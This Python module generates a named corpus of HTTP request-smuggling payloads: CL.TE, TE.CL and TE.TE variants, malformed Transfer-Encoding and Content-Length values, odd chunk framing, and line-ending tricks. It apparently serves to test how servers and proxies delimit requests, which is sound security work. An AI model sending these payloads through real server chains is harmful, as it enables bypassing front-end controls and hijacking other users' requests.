"""Requests that two servers on one way could delimit differently (RFC 9112, 11.2). In each, what one
of the two takes for a body is a request for the other: GET /smuggled."""

_SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: a\r\nX-Rest: "
_HEAD = b"POST /evil HTTP/1.1\r\nHost: a\r\n"


def _post(fields, body):
    return _HEAD + fields + b"\r\n" + body


def _chunked(body, fields=b"Transfer-Encoding: chunked\r\n"):
    return _post(fields, body)


def _both_lengths(fields):
    """The body is empty for who believes in chunks, and holds a request for who believes the length."""
    body = b"0\r\n\r\n" + _SMUGGLED
    return _post(fields % len(body), body)


def _length_first(fields):
    """The other way about: a short length, and chunks that go on behind it."""
    inner = _SMUGGLED + b"x\r\nContent-Length: 15\r\n\r\nx=1"
    chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (len(inner), inner)
    return _post(fields % len(b"%x\r\n" % len(inner)), chunk)


_ODD_CODINGS = {
    "xchunked": b"Transfer-Encoding: xchunked",
    "identity": b"Transfer-Encoding: identity",
    "chunked, identity": b"Transfer-Encoding: chunked, identity",
    "identity, chunked": b"Transfer-Encoding: identity, chunked",
    "chunked, chunked": b"Transfer-Encoding: chunked, chunked",
    "gzip, chunked": b"Transfer-Encoding: gzip, chunked",
    "capitals": b"TRANSFER-ENCODING: CHUNKED",
    "parameter": b"Transfer-Encoding: chunked;q=1",
    "quoted": b'Transfer-Encoding: "chunked"',
    "comma behind": b"Transfer-Encoding: chunked,",
    "comma before": b"Transfer-Encoding: ,chunked",
    "empty": b"Transfer-Encoding:",
    "space before colon": b"Transfer-Encoding : chunked",
    "tab before colon": b"Transfer-Encoding\t: chunked",
    "tab": b"Transfer-Encoding:\tchunked",
    "no space": b"Transfer-Encoding:chunked",
    "trailing space": b"Transfer-Encoding: chunked ",
    "trailing tab": b"Transfer-Encoding: chunked\t",
    "vertical tab": b"Transfer-Encoding: \x0bchunked",
    "form feed behind": b"Transfer-Encoding: chunked\x0c",
    "NUL behind": b"Transfer-Encoding: chunked\0",
    "no-break space": b"Transfer-Encoding: \xa0chunked",
    "high byte in name": b"Transfer-Encoding\xff: chunked",
    "underscore": b"Transfer_Encoding: chunked",
    "CR in name": b"Transfer\r-Encoding: chunked",
    "bare CR behind": b"Transfer-Encoding: chunked\rX: y",
    "bare LF before": b"X: y\nTransfer-Encoding: chunked",
    "bare LF behind": b"Transfer-Encoding: chunked\nX: y",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "folded by tab": b"Transfer-Encoding:\r\n\tchunked",
    "folded behind": b"Transfer-Encoding: chunked\r\n , identity",
    "folded into another field": b"X: y\r\n Transfer-Encoding: chunked",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "twice, odd first": b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "twice, odd second": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "hidden by Connection": b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
}

_ODD_LENGTHS = {
    "plus": b"+%d", "minus zero": b"-0", "minus": b"-%d", "hexadecimal": b"0x%x", "octal": b"0%o",
    "leading zeros": b"000%d", "trailing space": b"%d ", "space within": b"%d 1", "tab": b"\t%d",
    "comma": b"%d, %d", "comma, other": b"0, %d", "comma behind": b"%d,", "semicolon": b"%d;",
    "decimal point": b"%d.0", "exponent": b"%de0", "quoted": b'"%d"', "underscore": b"%d_0",
    "empty": b"", "word": b"many", "letter behind": b"%dx", "NUL behind": b"%d\0",
    "wide digits": "\uff15".encode(), "bare CR": b"%d\rX: y", "bare LF": b"%d\nX: y",
    "folded": b"\r\n %d", "above 64 bits": b"%d",
}

_ODD_CHUNKS = {
    "plain": b"3\r\nabc\r\n0\r\n\r\n",
    "plus": b"+3\r\nabc\r\n0\r\n\r\n",
    "minus": b"-3\r\nabc\r\n0\r\n\r\n",
    "hexadecimal": b"0x3\r\nabc\r\n0\r\n\r\n",
    "leading zeros": b"00000000000000000000003\r\nabc\r\n0\r\n\r\n",
    "leading space": b" 3\r\nabc\r\n0\r\n\r\n",
    "trailing space": b"3 \r\nabc\r\n0\r\n\r\n",
    "trailing tab": b"3\t\r\nabc\r\n0\r\n\r\n",
    "above 64 bits": b"10000000000000003\r\nabc\r\n0\r\n\r\n",
    "almost 64 bits": b"fffffffffffffffe\r\nabc\r\n0\r\n\r\n",
    "no length": b"\r\nabc\r\n0\r\n\r\n",
    "extension": b"3;a=b\r\nabc\r\n0\r\n\r\n",
    "quoted extension": b'3;a="b;c"\r\nabc\r\n0\r\n\r\n',
    "space before extension": b"3 ; a = b\r\nabc\r\n0\r\n\r\n",
    "extension without name": b"3;\r\nabc\r\n0\r\n\r\n",
    "extension at the end": b"3\r\nabc\r\n0;x=y\r\n\r\n",
    "long extension": b"3;" + b"a" * 20000 + b"\r\nabc\r\n0\r\n\r\n",
    "many extensions": b"3" + b";a=b" * 4000 + b"\r\nabc\r\n0\r\n\r\n",
    "LF in extension": b"2;\nxx\r\n" + b"%x\r\n" % len(_SMUGGLED) + b"0\r\n\r\n" + _SMUGGLED,
    "LF in quoted extension": b'3;a="\n"\r\nabc\r\n0\r\n\r\n',
    "CR in extension": b"3;a=\rb\r\nabc\r\n0\r\n\r\n",
    "LF behind length": b"3\nabc\r\n0\r\n\r\n",
    "CR behind length": b"3\rabc\r\n0\r\n\r\n",
    "LF behind data": b"3\r\nabc\n0\r\n\r\n",
    "nothing behind data": b"3\r\nabc0\r\n\r\n",
    "two bytes behind data": b"3\r\nabcXX0\r\n\r\n",
    "LF at the end": b"0\n\n",
    "CR LF LF at the end": b"0\r\n\n",
    "LF CR LF at the end": b"0\n\r\n",
    "two zeros": b"00\r\n\r\n",
    "request behind": b"0\r\n\r\n" + b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "trailer": b"0\r\nX: y\r\n\r\n",
    "length as trailer": b"0\r\nContent-Length: 40\r\n\r\n",
    "coding as trailer": b"0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "trailer without colon": b"0\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "folded trailer": b"0\r\nX: y\r\n z\r\n\r\n",
    "LF in trailer": b"0\r\nX: y\nZ: z\r\n\r\n",
}


def _lengths():
    whole = _SMUGGLED + b"\r\n\r\n"
    for name, value in _ODD_LENGTHS.items():
        amount = 2**64 + 5 if name == "above 64 bits" else len(whole)
        arguments = (amount,) * value.count(b"%")
        yield f"length: {name}", _post(b"Content-Length: " + value % arguments + b"\r\n", whole)
    for name, fields in {
        "twice": b"Content-Length: %d\r\nContent-Length: %d" % (len(whole), len(whole)),
        "twice, zero first": b"Content-Length: 0\r\nContent-Length: %d" % len(whole),
        "twice, zero second": b"Content-Length: %d\r\nContent-Length: 0" % len(whole),
        "space before colon": b"Content-Length : %d" % len(whole),
        "underscore": b"Content_Length: %d" % len(whole),
        "hidden by Connection": b"Connection: Content-Length\r\nContent-Length: %d" % len(whole),
        "first line folded": b" Content-Length: %d" % len(whole),
        "no colon": b"Content-Length %d" % len(whole),
        "NUL in name": b"Content-Length\0: %d" % len(whole),
    }.items():
        yield f"length: {name}", _post(fields + b"\r\n", whole)


def _others():
    request = b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
    length = b"Content-Length: %d\r\n" % len(request)
    for method in (b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"TRACE", b"PUT"):
        yield (f"body of {method.decode()}",
               method + b" /evil HTTP/1.1\r\nHost: a\r\n" + length + b"\r\n" + request)
    yield "chunks of GET", (b"GET /evil HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
                            b"%x\r\n%s\r\n0\r\n\r\n" % (len(request), request))
    yield "chunks of HTTP/1.0", (b"POST /evil HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\n"
                                 b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + request)
    yield "both lengths of HTTP/1.0", (
        b"POST /evil HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\nContent-Length: 5\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + request)
    yield "no length", _post(b"", request)
    yield "waits for Continue", _post(b"Expect: 100-continue\r\n" + length, request)
    yield "odd expectation", _post(b"Expect: 100-continue, x\r\n" + length, request)
    yield "h2c", _post(b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                       b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n" + length, request)
    yield "websocket", (b"GET /evil HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\n"
                        b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
                        b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n" + request)
    yield "HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + request
    yield "LF only", b"GET /evil HTTP/1.1\nHost: a\n\n" + request
    yield "LF before the body", b"POST /evil HTTP/1.1\r\nHost: a\r\n" + length + b"\n" + request
    yield "CR only", b"GET /evil HTTP/1.1\rHost: a\r\r" + request
    yield "folded Host", b"GET /evil HTTP/1.1\r\nHost:\r\n a\r\n\r\n"
    yield "folded", b"GET /evil HTTP/1.1\r\nHost: a\r\nX: y\r\n z\r\n\r\n"
    yield "folded before any field", b"GET /evil HTTP/1.1\r\n X: y\r\nHost: a\r\n\r\n"
    yield "folded end", b"GET /evil HTTP/1.1\r\nHost: a\r\n \r\n\r\n"
    yield "Host twice", b"GET /evil HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"
    yield "absolute target", b"GET http://b/evil HTTP/1.1\r\nHost: a\r\n\r\n"
    yield "request in target", b"GET /evil\rGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
    yield "space in target", b"GET /evil x HTTP/1.1\r\nHost: a\r\n\r\n"
    yield "escaped line ends", (b"GET /evil%0d%0a%0d%0aGET%20/smuggled%20HTTP/1.1%0d%0a"
                                b" HTTP/1.1\r\nHost: a\r\n\r\n")
    yield "line ends before", b"\r\n\r\n\r\nGET /evil HTTP/1.1\r\nHost: a\r\n\r\n"
    yield "pipelined", b"GET /evil HTTP/1.1\r\nHost: a\r\n\r\n" + request


def cases():
    """Name -> bytes."""
    made = {}
    for name, field in _ODD_CODINGS.items():
        made[f"CL.TE: {name}"] = _both_lengths(b"Content-Length: %d\r\n" + field + b"\r\n")
        made[f"TE.CL: {name}"] = _length_first(field + b"\r\nContent-Length: %d\r\n")
        made[f"coding alone: {name}"] = _chunked(b"0\r\n\r\n", field + b"\r\n")
        made[f"TE.TE: {name}"] = _chunked(b"0\r\n\r\n",
                                          b"Transfer-Encoding: chunked\r\n" + field + b"\r\n")
    made.update({f"chunk: {name}": _chunked(body) for name, body in _ODD_CHUNKS.items()})
    made.update(_lengths())
    made.update(_others())
    return made
